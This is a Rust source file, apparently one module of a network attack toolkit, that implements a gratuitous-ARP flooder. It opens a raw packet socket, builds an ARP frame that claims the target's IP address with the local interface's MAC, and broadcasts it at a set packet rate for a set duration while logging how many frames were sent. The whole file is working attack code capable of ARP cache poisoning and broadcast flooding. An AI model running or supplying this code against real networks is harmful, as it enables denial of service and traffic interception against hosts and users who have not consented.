//! Gratuitous-ARP flooder: broadcast ARP requests announcing the target's
//! own address, paced like the SYN flooder.

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use super::packet::gratuitous_arp;
use super::{interface_mac, AttackError, FloodTelemetry, PacingBucket, PacketSocket};

pub fn arp_flood(
    interface: &str,
    target: Ipv4Addr,
    rate_pps: u64,
    duration_s: f64,
) -> Result<FloodTelemetry, AttackError> {
    if rate_pps == 0 {
        return Err(AttackError::Config("rate must be positive".into()));
    }
    if !(duration_s > 0.0) {
        return Err(AttackError::Config("duration must be positive".into()));
    }
    let sock = PacketSocket::new(interface)?;
    let mac = interface_mac(interface)?;
    let frame = gratuitous_arp(mac, target);

    let windows = duration_s.ceil() as usize;
    let mut telemetry = FloodTelemetry {
        sent_pps: vec![0; windows],
        response_pps: vec![0; windows], // ARP requests solicit no counted reply
        sent_total: 0,
        responses_total: 0,
        errors: 0,
        shortfall: false,
    };
    let start = Instant::now();
    let deadline = start + Duration::from_secs_f64(duration_s);
    let mut bucket = PacingBucket::new(rate_pps);
    while Instant::now() < deadline {
        bucket.take_blocking();
        let now = Instant::now();
        if now >= deadline {
            break;
        }
        match sock.send(&frame) {
            Ok(()) => {
                let w = (now.duration_since(start).as_secs() as usize).min(windows - 1);
                telemetry.sent_pps[w] += 1;
                telemetry.sent_total += 1;
            }
            Err(_) => telemetry.errors += 1,
        }
    }
    let expected = (rate_pps as f64 * duration_s) as u64;
    telemetry.shortfall = telemetry.sent_total < expected * 9 / 10;
    Ok(telemetry)
}
